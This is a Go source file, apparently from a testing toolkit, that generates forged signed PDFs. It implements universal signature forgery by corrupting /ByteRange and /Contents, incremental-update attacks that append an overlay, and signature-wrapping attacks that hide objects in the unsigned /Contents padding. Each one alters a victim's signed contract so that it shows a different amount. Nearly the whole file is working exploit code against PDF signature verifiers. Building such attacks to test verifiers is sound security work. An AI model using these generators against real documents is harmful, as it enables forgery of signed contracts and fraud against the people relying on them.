// SPDX-License-Identifier: Apache-2.0

package attacks

import (
	"bytes"
	"fmt"
	"strings"
)

// universal changes the text, and takes the meaning out of what says which bytes
// were signed.
func universal(f *forger) (all []Attack) {
	blank := func(text string) string { return strings.Repeat(" ", len(text)) }
	fill := func(room, text string) string { return text + blank(room)[len(text):] }
	for _, v := range []struct {
		name string
		edit func(d *draft, byteRange, contents string)
	}{
		{"byterange-missing", func(d *draft, _, _ string) { d.replace("/ByteRange", "/ByteRangX") }},
		{"byterange-null", func(d *draft, b, _ string) { d.replace(b, fill(b, "null")) }},
		{"byterange-empty", func(d *draft, b, _ string) { d.replace(b, fill(b, "[]")) }},
		{"byterange-zeros", func(d *draft, b, _ string) { d.replace(b, fill(b, "[0 0 0 0]")) }},
		{"byterange-negative", func(d *draft, b, _ string) { d.replace(b, fill(b, "[0 -1 -1 -1]")) }},
		{"byterange-one-part", func(d *draft, b, _ string) { d.replace(b, fill(b, "[0 9]")) }},
		{"contents-missing", func(d *draft, _, c string) { d.replace("/Contents "+c, "/ContentX "+c) }},
		{"contents-null", func(d *draft, _, c string) { d.replace(c, fill(c, "null")) }},
		{"contents-empty", func(d *draft, _, c string) { d.replace(c, fill(c, "<>")) }},
		{"contents-zeros", func(d *draft, _, c string) { d.replace(c, "<"+strings.Repeat("0", len(c)-2)+">") }},
	} {
		d := f.start(Signing{})
		v.edit(d, d.byteRange(), d.contents())
		i := bytes.Index(d.bytes, []byte(says10))
		d.bytes = append(append(bytes.Clone(d.bytes[:max(i, 0)]), says99...), d.bytes[max(i, 0)+len(says10):]...)
		all = append(all, f.attack("usf-"+v.name, d))
	}
	return all
}

// incremental appends another text, in a whole update or in a part of one.
func incremental(f *forger) []Attack {
	trailer := "trailer\n<< /Size 100 /Root 1 0 R >>\n"
	copied := f.start(Signing{})
	return []Attack{
		f.attack("isa-update", f.start(Signing{}).update(evilOver())),
		f.attack("isa-body", f.start(Signing{}).add(evilOver()+"\n")),
		f.attack("isa-body-and-trailer", f.start(Signing{}).add(evilOver()+"\n"+trailer)),
		f.attack("isa-body-trailer-and-end", f.start(Signing{}).add(evilOver()+"\n"+trailer+"startxref\n0\n%%EOF\n")),
		f.attack("isa-copied-signature", copied.update(evilOver(), copied.text(copied.signature()))),
	}
}

// wrapping uses the gap that /Contents leaves in the signed bytes.
func wrapping(f *forger) []Attack {
	keys, objects := f.roomy(), f.roomy()
	inGap(keys, "/Reason (I pay 99 euro) ")
	at := inGap(objects, "/X 0 >>\nendobj\n"+evilOver()+"\n12 0 obj\n<< ")
	objects.section("", "", fmt.Sprintf("%d 1\n%s", overObject, row(at+bytes.Index(objects.bytes[at:], []byte("7 0 obj")))))
	return []Attack{
		f.attack("swa-moved-bytes", movedBytes(f)),
		f.attack("swa-keys-in-gap", keys),
		f.attack("swa-objects-in-gap", objects),
	}
}

// roomy is the contract with a signature of the victim that leaves room in its
// /Contents, as most programs do.
func (f *forger) roomy() *draft {
	d := &draft{bytes: Contract()}
	return d.sign(f.signers.VictimCMS, []string{
		d.edited(catalogObject, "/Fields [6 0 R]", "/Fields [6 0 R 32 0 R] /SigFlags 3"),
		object(firstFree+20, "<< /FT /Sig /T (Signature1) /V 34 0 R /Type /Annot /Subtype /Widget /F 132 /P 3 0 R /Rect [0 0 0 0] >>"),
	})
}

// inGap ends /Contents after the signature value and puts text where its
// padding was, which no digest covers. It returns where the text stands.
func inGap(d *draft, text string) int {
	contents := d.contents()
	if len(contents) < 10 || !strings.HasPrefix(contents, "<3082") {
		d.fail("/Contents holds no long DER value")
		return 0
	}
	var length int
	if _, err := fmt.Sscanf(contents[5:9], "%x", &length); err != nil {
		d.fail("reading the length of /Contents: %w", err)
		return 0
	}
	end := 1 + 2*(4+length)
	rest := len(contents) - end - len(text) - len(">/Y <>")
	if rest < 0 {
		d.fail("the padding has no room for %d bytes", len(text))
		return 0
	}
	at := bytes.Index(d.bytes, []byte(contents)) + end + 1
	d.replace(contents, contents[:end]+">"+text+"/Y <"+strings.Repeat("0", rest)+">")
	return at
}

// movedBytes moves the second part of the signed bytes to the end. A second
// /ByteRange, in the gap, says so; there a new section leads to other objects.
func movedBytes(f *forger) *draft {
	d := f.start(Signing{})
	var gap, resume, length int
	if _, err := fmt.Sscanf(d.byteRange(), "[0 %d %d %d]", &gap, &resume, &length); err != nil {
		d.fail("reading /ByteRange: %w", err)
		return d
	}
	xref, tail := d.startxref(), d.bytes[resume:]
	build := func(moved int) []byte {
		out := bytes.Clone(d.bytes[:resume])
		out = fmt.Appendf(out, " /ByteRange [0 %d %d %d] >>\nendobj\n%s\n", gap, moved, length, evilOver())
		evil := bytes.LastIndex(out, []byte("7 0 obj"))
		if len(out) > xref {
			out = append(out, "% too long\n"...)
		}
		for len(out) < xref { // the signed startxref leads here
			out = append(out, ' ')
		}
		return append(out, d.wrappedSection(moved-resume, resume, evil)...)
	}
	moved := len(build(0))
	for range 3 { // until the digits of the offset stop changing the length
		moved = len(build(moved))
	}
	d.bytes = append(build(moved), tail...)
	return d
}

// wrappedSection is a section for all objects, those after resume moved, and the
// overlay elsewhere.
func (d *draft) wrappedSection(by, resume, evil int) string {
	rows := ""
	for number := 1; number <= d.field(); number++ {
		at := d.offsetOf(number)
		switch {
		case number == overObject:
			at = evil
		case at >= resume:
			at += by
		}
		rows += fmt.Sprintf("%d 1\n%s", number, row(at))
	}
	return fmt.Sprintf("xref\n%strailer\n<< /Size 100 /Root 1 0 R >>\n%% the signed bytes go on here\n", rows)
}
